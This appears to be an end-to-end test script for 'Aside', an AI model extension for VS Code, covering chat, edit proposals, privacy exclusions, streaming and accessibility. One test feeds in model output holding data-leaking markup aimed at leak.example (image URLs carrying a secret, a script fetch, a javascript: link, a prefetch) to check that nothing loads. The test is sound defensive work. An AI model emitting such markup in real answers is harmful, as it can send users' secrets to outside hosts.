// node scenarios.mjs VSIX SHOTS [NAME…]   what a person does in VS Code with Aside, and what they see. Prints `ok NAME` or
// `not ok NAME`, then the counts; pictures go to SHOTS.
import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { chatDocument, chatFrame, openChat, openFile, palette, startEditor, status } from "./editor.mjs";
import { APP, FRUITS, THEMES, answered, ask, asked, axe, equal, here, instruct, lens, logs, save, selectLines, servers, setTheme, shot, test, unfold, until } from "./kit.mjs";
import { chatScenarios } from "./chat.mjs";
import { hostileFolders } from "./hostile.mjs";
import { keyScenarios } from "./keys.mjs";
import { startModel } from "./model.mjs";
import { proposalScenarios } from "./proposals.mjs";
import { statusScenarios } from "./status.mjs";

const [vsix, shots, ...only] = process.argv.slice(2);
mkdirSync(shots, { recursive: true });
Object.assign(here, { shots, only });
const DEMO = {};
const model = await startModel();
const editor = await startEditor({ vsix, files: { "app.ts": APP, "fruits.ts": FRUITS } });
Object.assign(here, { editor, model });

await test("a new user is led from the walkthrough to the first answer in under a minute", async page => {
  const began = Date.now();
  await palette(page, "Aside: Get Started");
  await page.getByText("Ask a Question", { exact: true }).click();
  const chat = chatFrame(page);
  await chat.locator(".composer textarea").waitFor();
  await until(async () => (await chat.locator(".composer textarea").inputValue()) !== "", "a question stands ready");
  await shot("walkthrough");
  await chat.locator(".composer textarea").press("Enter");
  await chat.locator('.answer:has-text("built-in demo")').waitFor();
  await answered(chat);
  const seconds = (Date.now() - began) / 1000;
  if (seconds > 60) throw new Error(`it took ${seconds} s`);
}, DEMO);

await test("a question about a file shows what goes along, before and after it is sent", async page => {
  await openFile(page, "app.ts");
  const chat = await openChat(page, "Aside: New Chat");
  await chat.locator(".composer textarea").pressSequentially("What is in it? #fi");
  await chat.locator('.offers [aria-selected="true"]:has-text("file app.ts")').waitFor();
  await shot("mentions");
  await page.keyboard.press("Enter");
  await chat.locator('.going summary:has-text("1 thing will go along")').waitFor();
  await unfold(chat.locator(".going"));
  await chat.locator('button:has-text("See all of it")').click();
  await page.locator('.editor-instance .view-line:has-text("What would be sent")').first().waitFor();
  await shot("preview");
  await chat.locator(".composer textarea").press("Enter");
  await chat.locator('.answer:has-text("longest")').waitFor();
  await answered(chat);
  await chat.locator('.sent summary:has-text("1 thing went along")').click();
  await chat.locator('.sent .items:has-text("app.ts")').waitFor();
  await shot("chat-light");
}, DEMO);

await test("an instruction on a selection: typing meanwhile, one hunk accepted, one undo step", async page => {
  await openFile(page, "app.ts");
  await selectLines(page, 9, 6);
  await instruct(page, "rename best to longestLine");
  await lens(page, "Accept all").waitFor();
  // The user goes on above the proposal.
  await selectLines(page, 2, 0);
  await page.keyboard.type("// typed meanwhile\n");
  await page.locator('.view-line:has-text("typed")').waitFor();
  await lens(page, "Accept all").waitFor();
  await page.locator('.review-widget:has-text("longestLine")').first().waitFor();
  await shot("readme");
  await lens(page, "Accept this").click();
  await page.locator('.view-line:has-text("longestLine")').first().waitFor();
  await save(page, "app.ts", saved => saved.includes('let longestLine = "";') && saved.includes("line.length > best.length"));
  await page.locator(".editor-instance .view-line").first().click();
  await page.keyboard.press("Control+z");
  await save(page, "app.ts", saved => saved === APP.replace("\n\n", "\n// typed meanwhile\n\n"));
  await palette(page, "Aside: Reject the Proposal");
  await page.locator(".review-widget").first().waitFor({ state: "detached" });
  await lens(page, "Reject").waitFor({ state: "detached" });
}, DEMO);

await test("the keys take every change of a proposal, and a proposal opens as a diff", async page => {
  await openFile(page, "fruits.ts");
  await selectLines(page, 2, 4);
  await instruct(page, "sort the lines");
  await lens(page, "Accept").waitFor();
  await palette(page, "Aside: Open the Proposal as a Diff");
  await page.locator('.monaco-diff-editor .modified-in-monaco-diff-editor .view-line:has-text("apple")').first().waitFor();
  await shot("diff");
  await palette(page, "View: Close Editor");
  await page.locator(".editor-instance .view-line").first().click();
  await page.keyboard.press("Control+Alt+Shift+Enter");
  await save(page, "fruits.ts", saved => saved.indexOf("apple") < saved.indexOf("pear"));
  await page.keyboard.press("Control+z");
  await save(page, "fruits.ts", saved => saved === FRUITS);
  await palette(page, "Aside: Reject the Proposal");
  await page.locator(".review-widget").first().waitFor({ state: "detached" });
}, DEMO);

await test("the light bulb offers to mend another extension's diagnostic", async page => {
  await openFile(page, "fruits.ts");
  await page.locator(".squiggly-error").first().waitFor();
  await page.keyboard.press("F8");
  await page.keyboard.press("Escape");
  await page.keyboard.press("Control+.");
  const action = page.locator('.action-widget .monaco-list-row:has-text("Aside")').first();
  await action.waitFor();
  await shot("light-bulb");
  await page.keyboard.press("Escape");
}, DEMO);

await test("the ledger is in the status item's menu, and opens beside the code", async page => {
  await (await status(page, "demo/demo")).click();
  await page.locator('.quick-input-list .monaco-list-row:has-text("What Was Sent")').waitFor();
  await page.locator('.quick-input-list .monaco-list-row:has-text("What Is Counted: Telemetry")').waitFor();
  await shot("menu");
  await page.locator('.quick-input-list .monaco-list-row:has-text("What Was Sent")').click();
  await page.locator('.editor-instance .view-line:has-text("What left this machine")').first().waitFor();
  await shot("ledger");
}, DEMO);

await test("settings changed live are those of the next question", async page => {
  editor.writeSettings(model.settings);
  await status(page, "fake/test");
  const chat = await openChat(page, "Aside: New Chat");
  await ask(chat, "Who are you?");
  const exchange = await model.next();
  equal(exchange.body.model, "test");
  exchange.send("I am *scripted*.");
  exchange.done();
  await chat.locator('.answer em:has-text("scripted")').waitFor();
  await answered(chat);
}, DEMO);

const EACH_ITS_OWN = {
  ...model.settings,
  "aside.models.chat": { model: "fake/test", temperature: 0.5 },
  "aside.models.inline": "fake/other",
  "aside.fallbacks": { models: ["fake/spare"], on: ["overloaded"] },
};

await test("a model chosen for everything is asked for everything, and what is asked next is said", async page => {
  const chat = await openChat(page, "Aside: New Chat");
  await chat.locator(".composer textarea").pressSequentially("What next?");
  await chat.locator('.going summary:has-text("If that gives no answer, fake/spare at http://127.0.0.1")').waitFor();
  await palette(page, "Aside: Choose the Model…");
  await page.locator('.quick-input-list .monaco-list-row:has-text("demo/demo")').first().click();
  await page.locator('.quick-input-list .monaco-list-row:has-text("Sets model, models.chat, models.inline")').waitFor();
  await shot("everywhere");
  await page.locator('.quick-input-list .monaco-list-row:has-text("For everything")').click();
  await status(page, "demo/demo");
  await until(() => editor.readSettings()["aside.models.inline"] === "demo/demo", "every setting is written");
  const kept = editor.readSettings();
  equal(JSON.stringify(kept["aside.models.chat"]), '{"model":"demo/demo","temperature":0.5}', "its parameters stay");
  equal(kept["aside.model"], "demo/demo", "the model for everything");
}, EACH_ITS_OWN);

await test("a file that a rule keeps back goes along once, if the user says so", async page => {
  await openFile(page, "fruits.ts");
  const chat = await openChat(page, "Aside: New Chat");
  await chat.locator(".composer textarea").pressSequentially("What is in it? #fi");
  await chat.locator('.offers [aria-selected="true"]:has-text("file fruits.ts")').waitFor();
  await page.keyboard.press("Enter");
  await chat.locator(".going .left-out").waitFor({ state: "attached" });
  await unfold(chat.locator('.going:has(summary:has-text("Only your words will go"))'));
  await shot("blocked");
  await chat.locator('.going .left-out button:has-text("Send it this once")').click();
  await chat.locator('.going summary:has-text("1 thing will go along")').waitFor();
  await chat.locator(".composer textarea").press("Enter");
  const exchange = await model.next();
  equal(JSON.stringify(exchange.body.messages).includes("fruits.ts"), true, "the file goes along");
  exchange.send("Fruits.");
  exchange.done();
  await answered(chat);
}, { ...model.settings, "aside.privacy.exclude": ["fruits.ts"] });

await test("an answer streams, is stopped, and survives a reload of the window", async page => {
  await openFile(page, "app.ts");
  let chat = await openChat(page, "Aside: New Chat");
  await chat.locator(".composer textarea").pressSequentially("Tell me a story #fi");
  await chat.locator('.offers [aria-selected="true"]:has-text("file app.ts")').waitFor();
  await page.keyboard.press("Enter");
  await chat.locator(".composer textarea").press("Enter");
  const exchange = await model.next();
  exchange.think("A king, perhaps.");
  exchange.send("Once upon a time");
  await chat.locator('.answer:has-text("Once upon a time")').waitFor();
  exchange.send(", there was");
  await chat.locator('.answer:has-text("there was")').waitFor();
  await chat.locator('button[aria-label="Stop"]').click();
  await chat.locator('.facts:has-text("Stopped")').waitFor();
  await until(() => exchange.closed, "the provider's connection is closed");
  await page.reload();
  await status(page, "fake/test");
  chat = await openChat(page);
  await chat.locator('.question:has-text("Tell me a story")').waitFor();
  await chat.locator('.answer:has-text("Once upon a time, there was")').waitFor();
  await chat.locator('.facts:has-text("Stopped · fake/test")').waitFor();
  await chat.locator('.sent summary:has-text("1 thing went along")').click();
  await chat.locator('.sent .items:has-text("app.ts")').waitFor();
  await chat.locator(".reasoning summary").click();
  await chat.locator('.thoughts:has-text("A king, perhaps.")').waitFor();
  await shot("reloaded");
  await chat.locator('button[aria-label="Ask again"]').click();
  const again = await model.next();
  equal(JSON.stringify(again.body.messages), JSON.stringify(exchange.body.messages), "what is asked again");
  again.send("Once more.");
  again.done();
  await chat.locator('.answer:has-text("Once more.")').waitFor();
  await answered(chat);
});

await test("an earlier question is edited, and asked again", async page => {
  const chat = await openChat(page, "Aside: New Chat");
  await ask(chat, "Tell me a story");
  const first = await model.next();
  first.send("Once upon a time.");
  first.done();
  await answered(chat);
  await chat.locator(".composer textarea").press("ArrowUp");
  const box = chat.locator(".question textarea");
  await box.fill("Tell me a shorter story");
  await box.press("Enter");
  const exchange = await model.next();
  exchange.send("The end.");
  exchange.done();
  await chat.locator('.answer:has-text("The end.")').waitFor();
  await answered(chat);
  equal(await chat.locator(".turn").count(), 1, "turns");
  equal(await chat.locator(".answer").innerText(), "The end.", "the answer");
});

await chatScenarios(model);
await proposalScenarios(model);

await test("a refused key is said in place, with the next step as a button", async page => {
  const chat = await openChat(page, "Aside: New Chat");
  await ask(chat, "And now?");
  (await model.next()).fail(401, "Incorrect API key provided");
  await chat.locator(".problem").waitFor();
  await chat.locator('.problem button:has-text("Save a key…")').waitFor();
  await shot("problem");
  await chat.locator('.problem button:has-text("Save a key…")').press("Enter");
  await page.locator('.quick-input-widget:has-text("Save a key for…") .monaco-list-row:has-text("fake")').first().waitFor();
  await page.keyboard.press("Escape");
});

await test("a picture or a link in an answer loads nothing by itself", async page => {
  const chat = await openChat(page, "Aside: New Chat");
  await ask(chat, "Show me");
  const exchange = await model.next();
  exchange.send('![p](https://leak.example/p.png?secret) [l](https://leak.example/l) <img src="https://leak.example/i.png"> <script>fetch("https://leak.example")</script>\n\n');
  exchange.send('[j](javascript:alert(1)) <link rel=prefetch href="https://leak.example/f">');
  exchange.done();
  await answered(chat);
  equal(await chat.locator(".answer img, .answer script, .answer link, .answer [href], .answer [src]").count(), 0, "elements that load");
  // Nor does one in what a provider says of an error, where the status item repeats it.
  await ask(chat, "Show me again");
  (await model.next()).fail(400, "![p](https://leak.example/e.png)");
  await chat.locator('.problem:has-text("leak.example")').waitFor();
  await (await status(page, "fake/test")).hover();
  await page.locator('.workbench-hover:has-text("leak.example")').waitFor();
  equal([...editor.hosts].filter(host => host.includes("leak")).join(), "", "hosts asked");
});

await test("200 kB of answer is drawn a little in each frame", async page => {
  const chat = await openChat(page, "Aside: New Chat");
  await ask(chat, "Everything, please");
  const exchange = await model.next();
  const frame = chatDocument(page);
  await frame.evaluate(() => {
    globalThis.most = 0;
    let last = 0;
    const tick = () => {
      const { length } = document.querySelector(".answer").textContent;
      globalThis.most = Math.max(globalThis.most, length - last);
      last = length;
      requestAnimationFrame(tick);
    };
    requestAnimationFrame(tick);
  });
  const part = `## Part\n\nSome *words* and \`code\`, in a paragraph that is as long as one.\n\n\`\`\`ts\n${"const a = [1, 2, 3].map(n => n * 2);\n".repeat(20)}\`\`\`\n\n`;
  const parts = Math.ceil(200_000 / part.length);
  for (let n = 0; n < parts; n += 1) {
    exchange.send(part);
    if (n % 10 === 0) await new Promise(resolve => setTimeout(resolve, 20));
  }
  exchange.send("The last words.");
  exchange.done();
  await chat.locator('.answer:has-text("The last words.")').waitFor();
  await answered(chat);
  // However fast it comes, no frame draws more than a little of it.
  const most = await frame.evaluate(() => globalThis.most);
  if (most > 20_000) throw new Error(`a frame drew ${most} characters`);
  equal(await chat.locator(".answer .code").count(), parts, "code blocks");
});

await test("a server killed in mid-answer comes back, and the chat is kept", async page => {
  const chat = await openChat(page, "Aside: New Chat");
  await ask(chat, "First question");
  const first = await model.next();
  first.send("First answer.");
  first.done();
  await answered(chat);
  await ask(chat, "Second question");
  const second = await model.next();
  second.send("It begins");
  await chat.locator('.answer:has-text("It begins")').waitFor();
  for (const pid of servers(editor.home)) process.kill(pid, "SIGKILL");
  await chat.locator('.problem:has-text("stopped in mid-answer")').waitFor();
  await until(() => servers(editor.home).length === 1, "the server is back");
  await chat.locator(".banner").waitFor({ state: "hidden" });
  await chat.locator('.problem button:has-text("Ask again")').click();
  const again = await model.next();
  equal(JSON.stringify(again.body.messages).includes("First answer."), true, "the kept chat goes along");
  again.send("It begins and ends.");
  again.done();
  await chat.locator('.answer:has-text("It begins and ends.")').waitFor();
  await answered(chat);
});

await keyScenarios(model);
await statusScenarios(model);

await test("a missing or broken program is one message with a button", async page => {
  const broken = path.join(editor.home, "broken");
  writeFileSync(broken, "#!/bin/sh\nexit 3\n", { mode: 0o755 });
  const message = page.locator('.notification-toast:has-text("Aside\'s server could not start")');
  await palette(page, "Notifications: Clear All Notifications");
  for (const program of ["/nowhere/aside", broken]) {
    editor.writeSettings({ ...model.settings, "aside.server.path": program });
    await message.waitFor();
    // Whatever else would be said of the first try is said by the end of the second.
    const tried = () => logs(editor.home).split(program === broken ? "ended before it was ready" : "there is no /nowhere/aside").length - 1;
    const before = tried();
    await page.locator('.notification-toast a:has-text("Try Again")').click();
    await until(() => tried() > before, "it is tried again");
    await message.waitFor();
    const said = await page.locator(".notification-toast").allInnerTexts();
    equal(said.length, 1, said.join(" | "));
    await page.locator('.notification-toast a:has-text("Name the Program…")').waitFor();
    await shot(program === broken ? "broken" : "missing");
    await palette(page, "Notifications: Clear All Notifications");
    await message.waitFor({ state: "detached" });
  }
  editor.writeSettings(model.settings);
  await until(() => servers(editor.home).length === 1, "the server is started");
  await palette(page, "Notifications: Clear All Notifications");
});

const TABLE = "It reads a file and finds its **longest** line.\n\n```ts\n// The longest, or nothing.\nexport function longest(all: string[]): string {\n  return all.reduce((a, b) => (b.length > a.length ? b : a), \"\");\n}\n```\n\n| input | lines |\n|---|--:|\n| `app.ts` | 16 |\n\n> See [the documentation](https://example.com/).\n\n1. Shorter\n2. No loop\n";

for (const [name, [theme, shown]] of Object.entries(THEMES)) {
  await test(`the chat view has no accessibility fault: ${name}`, async page => {
    await setTheme(page, theme);
    await openFile(page, "app.ts");
    const chat = await openChat(page, "Aside: New Chat");
    await chat.locator(`body.${shown}`).waitFor();
    await chat.locator('.where:has-text("built-in demo")').waitFor();
    await axe(chat);
    editor.writeSettings(model.settings);
    await status(page, "fake/test");
    await chat.locator(".composer textarea").fill("What does #");
    await page.keyboard.press("Enter");
    await page.keyboard.type("it do, and how would you write it?");
    await page.keyboard.press("Enter");
    const exchange = await model.next();
    exchange.send(TABLE);
    exchange.done();
    await answered(chat);
    await ask(chat, "Is it quicker?");
    (await model.next()).fail(401, "Incorrect key");
    await chat.locator(".problem").waitFor();
    await axe(chat);
    // The end stays in sight, whatever was drawn last.
    await chat.locator('button[aria-label="Go to the latest"]').waitFor({ state: "hidden" });
    await shot(`chat-${name}`);
    editor.writeSettings(DEMO);
    await status(page, "demo/demo");
    await page.locator(".editor-instance .view-line").first().click();
    await selectLines(page, 10, 6);
    await instruct(page, "rename best to longestLine");
    await lens(page, "Accept all").waitFor();
    await page.locator('.review-widget:has-text("longestLine")').nth(1).waitFor();
    await shot(`proposal-${name}`);
    await palette(page, "Aside: Reject the Proposal");
    await lens(page, "Reject").waitFor({ state: "detached" });
  }, DEMO);
}

await test("the chat view is usable at a narrow width", async page => {
  const chat = await openChat(page, "Aside: New Chat");
  await ask(chat, "What does it do?");
  const exchange = await model.next();
  exchange.send(TABLE);
  exchange.done();
  await answered(chat);
  const { width, height } = page.viewportSize();
  await palette(page, "View: Close Primary Side Bar");
  try {
    await page.setViewportSize({ width: 700, height: 620 });
    await until(() => chat.locator("body").evaluate(body => body.clientWidth < 340), "the view is narrow");
    const wide = await chat.locator("body").evaluate(body => body.scrollWidth > body.clientWidth);
    equal(wide, false, "sideways scrolling");
    await axe(chat);
    await shot("narrow");
  } finally {
    await page.setViewportSize({ width, height });
    await palette(page, "View: Show Explorer");
  }
});

await test("no host was asked but this machine", () => {
  const asked = [...editor.hosts].filter(host => !host.endsWith("vscode-cdn.net"));
  equal(asked.join(), "", "hosts");
}, null);

await editor.stop();

// ---------------------------------------------------------------------------------------------------------------------

await hostileFolders(vsix, model);
model.stop();
console.log(`# scenarios: ${here.passed} passed, ${here.failed} failed`);
process.exit(here.failed ? 1 : 0);
